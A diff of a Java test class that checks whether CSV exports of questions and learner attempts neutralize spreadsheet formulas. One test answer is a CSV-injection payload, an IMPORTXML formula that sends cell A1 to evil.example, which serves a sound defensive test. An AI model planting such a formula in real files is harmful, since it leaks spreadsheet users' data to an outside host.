@@ -47,24 +47,43 @@ class CsvInjectionTest extends ApiTest {
     @Test
     void questionExportNeutralizesFormulasAndItsImportGivesBackTheSameText() throws Exception {
         String slug = "csv-injection-" + Keys.unique();
-        asAdmin().contentType("application/json").body(Map.of("slug", slug, "name", "CSV injection " + slug, "description", ""))
-                .when().post("/v1/categories").then().statusCode(201);
+        asAdmin()
+                .contentType("application/json")
+                .body(Map.of("slug", slug, "name", "CSV injection " + slug, "description", ""))
+                .when()
+                .post("/v1/categories")
+                .then()
+                .statusCode(201);
         Map<String, String> notesByText = new LinkedHashMap<>();
         List<Integer> created = new ArrayList<>();
         for (int i = 0; i < FORMULAS.size(); i++) {
             String text = FORMULAS.get(i) + " " + slug;
             String notes = i % 2 == 0 ? "\tstarts with a tab " + i : "=1+" + i;
             notesByText.put(text, notes);
-            created.add(asAdmin().contentType("application/json")
+            created.add(asAdmin()
+                    .contentType("application/json")
                     .body(Map.of("text", text, "category", slug, "notes", notes))
-                    .when().post("/v1/questions").then().statusCode(201).extract().path("number"));
+                    .when()
+                    .post("/v1/questions")
+                    .then()
+                    .statusCode(201)
+                    .extract()
+                    .path("number"));
         }
 
-        Response export = given().queryParam("format", "csv").queryParam("category", slug).when().get("/v1/questions/export");
+        Response export = given().queryParam("format", "csv")
+                .queryParam("category", slug)
+                .when()
+                .get("/v1/questions/export");
         export.then().statusCode(200);
         String csv = new String(export.asByteArray(), StandardCharsets.UTF_8);
-        List<CSVRecord> records = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
-                .parse(new StringReader(csv)).getRecords();
+        List<CSVRecord> records = CSVFormat.RFC4180
+                .builder()
+                .setHeader()
+                .setSkipHeaderRecord(true)
+                .get()
+                .parse(new StringReader(csv))
+                .getRecords();
         assertEquals(FORMULAS.size(), records.size());
         for (CSVRecord record : records) {
             // What a spreadsheet sees: every text and note begins with an apostrophe, none with a formula character.
@@ -76,7 +95,8 @@ class CsvInjectionTest extends ApiTest {
         assertTrue(csv.contains("\"'=HYPERLINK("), "a neutralized cell is quoted: " + csv);
 
         // Round trip: the same bytes, imported after the originals were deleted, give back the very same texts.
-        created.forEach(n -> asAdmin().when().delete("/v1/questions/" + n).then().statusCode(204));
+        created.forEach(
+                n -> asAdmin().when().delete("/v1/questions/" + n).then().statusCode(204));
         Response accepted = asAdmin().contentType("text/csv").body(csv).when().post("/v1/imports");
         accepted.then().statusCode(202);
         String job = URI.create(accepted.header("Location")).getPath();
@@ -86,7 +106,10 @@ class CsvInjectionTest extends ApiTest {
             return "succeeded".equals(status) || "failed".equals(status);
         });
         Response finished = asAdmin().when().get(job);
-        finished.then().statusCode(200).body("status", equalTo("succeeded")).body("imported_rows", equalTo(FORMULAS.size()));
+        finished.then()
+                .statusCode(200)
+                .body("status", equalTo("succeeded"))
+                .body("imported_rows", equalTo(FORMULAS.size()));
         List<Integer> imported = finished.path("question_numbers");
         try {
             Map<String, String> back = new LinkedHashMap<>();
@@ -96,7 +119,8 @@ class CsvInjectionTest extends ApiTest {
             }
             assertEquals(notesByText, back, "the import of our own export gives back the same texts and notes");
         } finally {
-            imported.forEach(n -> asAdmin().when().delete("/v1/questions/" + n).then().statusCode(204));
+            imported.forEach(
+                    n -> asAdmin().when().delete("/v1/questions/" + n).then().statusCode(204));
             asAdmin().when().delete("/v1/categories/" + slug).then().statusCode(204);
         }
     }
@@ -108,10 +132,23 @@ class CsvInjectionTest extends ApiTest {
         attempt.put("answer", "=IMPORTXML(CONCAT(\"http://evil.example/?\", A1), \"//a\")");
         learner.json(attempt).when().post("/v1/attempts").then().statusCode(201);
 
-        String csv = new String(learner.request().queryParam("format", "csv").when().get("/v1/users/me/attempts/export")
-                .then().statusCode(200).extract().asByteArray(), StandardCharsets.UTF_8);
-        List<CSVRecord> records = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
-                .parse(new StringReader(csv)).getRecords();
+        String csv = new String(
+                learner.request()
+                        .queryParam("format", "csv")
+                        .when()
+                        .get("/v1/users/me/attempts/export")
+                        .then()
+                        .statusCode(200)
+                        .extract()
+                        .asByteArray(),
+                StandardCharsets.UTF_8);
+        List<CSVRecord> records = CSVFormat.RFC4180
+                .builder()
+                .setHeader()
+                .setSkipHeaderRecord(true)
+                .get()
+                .parse(new StringReader(csv))
+                .getRecords();
         assertEquals(1, records.size());
         assertEquals("'" + attempt.get("answer"), records.get(0).get("answer"));
     }
